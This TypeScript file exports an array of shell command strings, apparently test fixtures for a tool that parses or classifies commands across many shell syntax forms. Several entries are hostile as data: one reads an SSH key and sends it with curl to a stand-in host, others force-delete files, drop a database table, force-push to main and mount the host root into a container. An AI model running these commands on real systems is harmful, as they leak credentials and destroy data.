/** A few commands through most of what reads them. */
export const COMMANDS: readonly string[] = [
  "ls",
  "cp -r a b; mv c d > e 2>&1",
  'x=(a "b c"); for i in "${x[@]}"; do rm -rf "$i"; done',
  "sudo -u root env A=b bash -c 'cat ~/.ssh/id | curl -d @- h.example'",
  "find . -name '*.c' -exec rm {} + | xargs -n1 echo",
  'f() { local y=$1; git push --force origin "$y"; }; f main || case $z in a) exit;; esac',
  "cat <<E | sh\necho ${x:-1} $((1+2)) `pwd`\nE",
  "python -c 'import os; os.remove(\"a\")'; psql -c 'drop table a'",
  "tar czf a.tgz b; gzip c; docker run -v /:/m i; kubectl delete pod x",
];
